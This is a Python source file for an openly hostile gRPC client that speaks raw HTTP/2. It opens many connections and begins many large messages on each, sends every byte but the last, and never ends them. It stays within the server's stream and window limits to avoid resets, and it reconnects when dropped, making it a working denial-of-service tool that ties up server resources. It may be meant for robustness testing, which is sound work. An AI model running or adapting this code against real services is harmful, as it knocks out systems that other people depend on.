"""A hostile gRPC client, in raw HTTP/2: it begins many large messages on many connections and ends none of them.

It keeps to the protocol, its windows and its number of streams, because a server ends the others at once; what is
refused is followed by the next message.
"""

import selectors
import socket
import struct
import time
from collections import Counter
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 3, 4
FRAME_BYTES = 16_384
# Streams with something to send take turns, so that each message grows a little.
CHUNK_BYTES = 8_192


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: bytes) -> bytes:
    """A string of HPACK, not compressed; up to 126 + 255 bytes."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    assert rest < 2**14
    length = bytes([127, rest]) if rest < 128 else bytes([127, rest % 128 | 128, rest // 128])
    return length + value


def header_block(path: str, token: str | None) -> bytes:
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    headers += [("content-type", "application/grpc"), ("te", "trailers")]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    # Literals, not indexed.
    return b"".join(b"\x00" + _text(name.encode()) + _text(value.encode()) for name, value in headers)


@dataclass
class Flood:
    """What is sent, and the results."""

    address: tuple[str, int]
    path: str
    token: str | None
    connections: int
    # Messages that each connection begins, one after the other where the server takes no more at a time.
    messages: int
    # The announced size; all but the last byte is sent.
    message_bytes: int
    # A connection that the server has closed is followed by a new one.
    persistent: bool = False
    begun: int = 0
    ended: Counter = field(default_factory=Counter)
    bytes_sent: int = 0

    def run(self, seconds: float) -> "Flood":
        """Ends when everything was begun and nothing more may be sent for a second, or after so many seconds."""
        selector = selectors.DefaultSelector()
        connections = [_Connection(self, selector, 0) for _ in range(self.connections)]
        end, quiet_since = time.monotonic() + seconds, time.monotonic()
        while time.monotonic() < end:
            before = self.bytes_sent, self.begun, self.ended.total()
            for key, events in selector.select(timeout=0.05):
                key.data.handle(events)
            if (self.bytes_sent, self.begun, self.ended.total()) != before:
                quiet_since = time.monotonic()
            if self.persistent:
                for at, connection in enumerate(connections):
                    if connection.is_closed and connection.begun < self.messages:
                        connections[at] = _Connection(self, selector, connection.begun)
            done = self.begun >= self.connections * self.messages or not selector.get_map()
            if done and time.monotonic() > quiet_since + 1:
                break
        self.held = connections
        return self

    def close(self) -> None:
        for connection in self.held:
            connection.close("the end")


class _Connection:
    def __init__(self, flood: Flood, selector: selectors.BaseSelector, begun_before: int):
        self.flood, self.selector = flood, selector
        self.socket = socket.create_connection(flood.address, timeout=30)
        self.socket.setblocking(False)
        self.out, self.unread = bytearray(PREFACE + frame(SETTINGS, 0, 0)), b""
        self.window, self.initial_window, self.limit = 65_535, 65_535, 0
        # Of each stream that is open: its window, and what is left to send.
        self.streams: dict[int, list[int]] = {}
        self.begun, self.first = begun_before, begun_before
        selector.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    @property
    def is_closed(self) -> bool:
        return self.socket.fileno() < 0

    def handle(self, events: int) -> None:
        try:
            if events & selectors.EVENT_READ:
                self._read()
            self._fill()
            if self.out:
                sent = self.socket.send(self.out)
                del self.out[:sent]
        except BlockingIOError:
            pass
        except OSError as error:
            return self.close(type(error).__name__)
        if not self.is_closed:
            wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if self.out else 0)
            self.selector.modify(self.socket, wanted, self)

    def close(self, reason: str) -> None:
        if not self.is_closed:
            self.selector.unregister(self.socket)
            self.socket.close()
            self.flood.ended[f"connection: {reason}"] += 1

    def _read(self) -> None:
        received = self.socket.recv(1 << 18)
        if not received:
            return self.close("closed by the server")
        self.unread += received
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self.unread[3:9])
            self._frame(kind, flags, stream, self.unread[9 : 9 + length])
            self.unread = self.unread[9 + length :]

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                setting, value = struct.unpack(">HI", payload[at : at + 6])
                if setting == MAX_CONCURRENT_STREAMS:
                    self.limit = value
                elif setting == INITIAL_WINDOW_SIZE:
                    self.initial_window = value
            self.limit = self.limit or 1_000
            self.out += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self.out += frame(PING, ACK, 0, payload)
        elif kind == WINDOW_UPDATE:
            (increment,) = struct.unpack(">I", payload)
            if stream == 0:
                self.window += increment
            elif stream in self.streams:
                self.streams[stream][0] += increment
        elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
            if self.streams.pop(stream, None):
                self.flood.ended["reset" if kind == RST_STREAM else "answered"] += 1
                if kind != RST_STREAM:
                    self.out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        elif kind == GOAWAY:
            self.close("closed by the server")

    def _fill(self) -> None:
        """Begins messages, and sends on with those that were begun, as far as the server allows."""
        while len(self.streams) < self.limit and self.begun < self.flood.messages and len(self.out) < 1 << 20:
            stream = 2 * (self.begun - self.first) + 1
            self.begun += 1
            self.flood.begun += 1
            self.out += frame(HEADERS, END_HEADERS, stream, header_block(self.flood.path, self.flood.token))
            self.streams[stream] = [self.initial_window, self.flood.message_bytes - 1]
            if self.window >= 5:
                # Not compressed, and so many bytes long.
                prefix = b"\x00" + struct.pack(">I", self.flood.message_bytes)
                self._send(stream, prefix)
            else:
                self.streams[stream][1] = 0
        for stream, (window, left) in list(self.streams.items()):
            size = min(window, left, self.window, CHUNK_BYTES)
            if size > 0 and len(self.out) < 1 << 20:
                self._send(stream, bytes(size))
                self.streams[stream][1] -= size

    def _send(self, stream: int, payload: bytes) -> None:
        self.out += frame(DATA, 0, stream, payload)
        self.streams[stream][0] -= len(payload)
        self.window -= len(payload)
        self.flood.bytes_sent += len(payload)
